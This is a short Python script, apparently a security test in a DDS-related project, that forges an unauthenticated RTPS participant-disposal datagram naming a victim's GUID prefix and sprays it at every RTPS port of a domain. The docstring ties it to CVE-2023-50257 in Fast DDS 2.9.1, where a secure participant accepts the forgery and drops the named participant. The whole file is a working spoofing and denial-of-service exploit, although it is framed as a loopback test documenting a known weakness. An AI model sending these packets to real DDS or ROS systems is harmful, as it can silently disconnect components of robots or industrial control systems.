#!/usr/bin/env python3
"""A stranger's one plaintext datagram (docs/security.md, "Which profile holds
against whom"): a participant disposal, DATA(p[UD]), in the name of the
participant whose GUID prefix is PREFIX (every participant announces it in
plaintext, DDS Security or not), to every RTPS port of DOMAIN on HOST.

    udp_disposal.py HOST DOMAIN PREFIX

Debian 12's Fast DDS 2.9.1 lacks the fix of CVE-2023-50257 (fixed from
2.13): a secure participant takes the disposal unauthenticated and drops
the named participant. Only HOST (loopback in the tests) is addressed.
"""
import socket
import struct
import sys


def disposal(prefix):
    header = b"RTPS" + bytes([2, 3, 0x01, 0x0F]) + prefix
    key_hash = struct.pack("<HH", 0x0070, 16) + prefix + bytes([0, 0, 1, 0xC1])  # PID_KEY_HASH
    status = struct.pack("<HH", 0x0071, 4) + bytes([0, 0, 0, 3])  # PID_STATUS_INFO: disposed, unregistered
    sentinel = struct.pack("<HH", 1, 0)
    # DATA: the SPDP writer to the SPDP reader, inline QoS only (flags E and Q)
    body = struct.pack("<HH", 0, 16) + bytes([0, 1, 0, 0xC7]) + bytes([0, 1, 0, 0xC2]) + struct.pack("<iI", 0, 99)
    body += key_hash + status + sentinel
    return header + bytes([0x15, 0x03]) + struct.pack("<H", len(body)) + body


def main():
    host, domain, prefix = sys.argv[1], int(sys.argv[2]), bytes.fromhex(sys.argv[3])
    if len(prefix) != 12:
        sys.exit("udp_disposal.py: PREFIX is 24 hex digits")
    base = 7400 + 250 * domain
    ports = [base, base + 1] + [base + 10 + 2 * i for i in range(32)] + [base + 11 + 2 * i for i in range(32)]
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for port in ports:
        s.sendto(disposal(prefix), (host, port))
    print("%d bytes to %d ports" % (len(disposal(prefix)), len(ports)))


if __name__ == "__main__":
    main()
